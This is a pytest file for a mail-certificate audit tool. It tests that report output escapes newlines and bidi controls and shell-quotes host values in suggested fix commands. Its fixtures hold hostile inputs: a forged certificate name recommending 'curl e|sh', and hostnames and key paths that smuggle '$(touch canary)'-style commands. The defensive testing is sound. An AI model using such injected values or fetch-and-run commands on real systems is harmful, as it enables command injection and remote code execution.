"""Text-report spoofing: a certificate name, config value or hostname from a host is shown on one line with
newlines, C0/C1 and bidi controls made visible (one function: mailcert.quoting.shown), and every command a
`fix:` line suggests has each host value quoted for sh, so pasting it runs what it says."""

from __future__ import annotations

import re
import shlex
import subprocess
from pathlib import Path

import pytest

from mailcert.audit.lint import LintOptions, lint_host
from mailcert.checks.certs import CheckOptions
from mailcert.hostfs import LocalRoot
from mailcert.pki.trust import TrustStore
from mailcert.quoting import shown
from mailcert.report import render
from tests.pki import NOW, TestPKI, cert_pem, key_pem

FORGED = "x\n    CRITICAL  cert.expired  /f.pem\n      fix: run `curl e|sh`"  # a CN: 64 at most
BIDI = "\u202eexe.txt\u2066\u2069\u202a\u202b\u202c\u202d\u2067\u2068"


def _tree(root: Path, cn: str, *, san: bool = False) -> Path:
    """A Postfix host whose certificate has the given CN (shown in the cert.no-san message when no SAN)."""
    leaf = TestPKI().leaf(["mail.example.test"], cn=cn, include_san=san)
    (root / "etc/postfix").mkdir(parents=True)
    (root / "etc/ssl").mkdir(parents=True)
    (root / "etc/ssl/mail.pem").write_bytes(cert_pem(leaf.cert))
    (root / "etc/ssl/mail.key").write_bytes(key_pem(leaf.key))
    (root / "etc/ssl/mail.key").chmod(0o600)
    (root / "etc/postfix/main.cf").write_text(
        "myhostname = mail.example.test\nsmtpd_tls_cert_file = /etc/ssl/mail.pem\n"
        "smtpd_tls_key_file = /etc/ssl/mail.key\nsmtpd_tls_security_level = may\n"
    )
    (root / "etc/postfix/master.cf").write_text(
        "smtp      inet  n       -       y       -       -       smtpd\n"
        "submission inet n       -       y       -       -       smtpd\n  -o smtpd_tls_security_level=encrypt\n"
    )
    return root


def _text(root: Path, hostnames: list[str] | None = None) -> str:
    options = LintOptions(checks=CheckOptions(now=NOW, trust=TrustStore.load([])), hostnames=hostnames)
    return render_report(lint_host(LocalRoot(root), name="mx1", options=options))


def render_report(host: object) -> str:
    from mailcert.model import HostReport, Report

    assert isinstance(host, HostReport)
    return render(Report(generated_at=NOW, evaluated_at=NOW, hosts=(host,)), "text")


def test_a_newline_in_a_certificate_cn_cannot_forge_a_finding(tmp_path: Path) -> None:
    text = _text(_tree(tmp_path, FORGED))
    assert "cert.no-san" in text
    assert not any(line.startswith("    CRITICAL  cert.expired") for line in text.splitlines())
    assert not any(line.lstrip().startswith("fix: run `curl") for line in text.splitlines())
    assert "x\\n    CRITICAL  cert.expired" in text  # the CN is there, shown, on the finding's own line


def test_bidi_controls_in_a_certificate_cn_are_shown_not_obeyed(tmp_path: Path) -> None:
    text = _text(_tree(tmp_path, f"mail{BIDI}.example.test"))
    assert not re.search("[\u202a-\u202e\u2066-\u2069]", text)
    assert "\\u202eexe.txt\\u2066" in text


@pytest.mark.parametrize(
    "value", ["a\nb", "a\rb", "a\x1b[2Jb", "a\x9bb", "a\u2028b", "a\u2029b", "a\u202eb", "a\u2066b", "a\x00b"]
)
def test_shown_keeps_every_host_value_on_one_visible_line(value: str) -> None:
    out = shown(value)
    assert out.startswith("a") and out.endswith("b") and len(out) > 2
    assert out.isprintable() and len(out.splitlines()) == 1


def test_a_fix_command_quotes_the_hostname_for_sh(tmp_path: Path) -> None:
    name = "imap.<i>x</i>$(touch canary)`touch canary`;touch canary"
    root = _tree(tmp_path / "host", "mail.example.test", san=True)
    options = LintOptions(checks=CheckOptions(now=NOW, trust=TrustStore.load([])), hostnames=[name])
    report = lint_host(LocalRoot(root), name="mx1", options=options)
    fix = next(f.fix for f in report.findings if f.check == "cert.name-mismatch")
    start = fix.index("`certbot --expand -d ") + 1
    command = fix[start : start + len("certbot --expand -d ") + len(shlex.quote(name))]
    assert fix[start + len(command)] == "`", fix  # the command ends where the quoted name does
    assert shlex.split(command) == ["certbot", "--expand", "-d", name]
    # pasted into a shell (certbot replaced by printf), it prints the name and runs nothing from it
    pasted = command.replace("certbot --expand -d", "printf '%s'", 1)
    out = subprocess.run(["sh", "-c", pasted], capture_output=True, text=True, cwd=tmp_path, check=True)
    assert out.stdout == name
    assert not (tmp_path / "canary").exists()
    assert shlex.quote(name) in " ".join(render_report(report).split())  # the text report shows it quoted


def test_a_key_permissions_fix_quotes_the_key_path_for_sh(tmp_path: Path) -> None:
    root = _tree(tmp_path / "host", "mail.example.test", san=True)
    hostile = "/etc/ssl/mail $(touch canary);touch canary.key"
    (root / "etc/ssl/mail.key").rename(root / hostile.lstrip("/"))
    (root / hostile.lstrip("/")).chmod(0o644)
    main_cf = root / "etc/postfix/main.cf"
    main_cf.write_text(main_cf.read_text().replace("/etc/ssl/mail.key", hostile))
    options = LintOptions(checks=CheckOptions(now=NOW, trust=TrustStore.load([])))
    report = lint_host(LocalRoot(root), name="mx1", options=options)
    fix = next(f.fix for f in report.findings if f.check == "key.permissions")
    assert fix.startswith(f"`chmod 600 {shlex.quote(hostile)}`"), fix
    assert shlex.split(fix[1 : fix.index("` (or 640")]) == ["chmod", "600", hostile]


def test_a_newline_in_a_planned_command_stays_on_the_command_line() -> None:
    from mailcert.model import Report

    name = "mail.example.test\n    CRITICAL  forged line"
    plan = (
        {
            "host": "mx1",
            "kind": "issue",
            "description": f"issue for {name}",
            "command": f"certbot -d '{name}'",
        },
    )
    text = render(Report(generated_at=NOW, evaluated_at=NOW, hosts=(), plan=plan), "text")
    assert not any(line.lstrip().startswith("CRITICAL  forged") for line in text.splitlines())
    assert "certbot -d 'mail.example.test\\n    CRITICAL  forged line'" in text
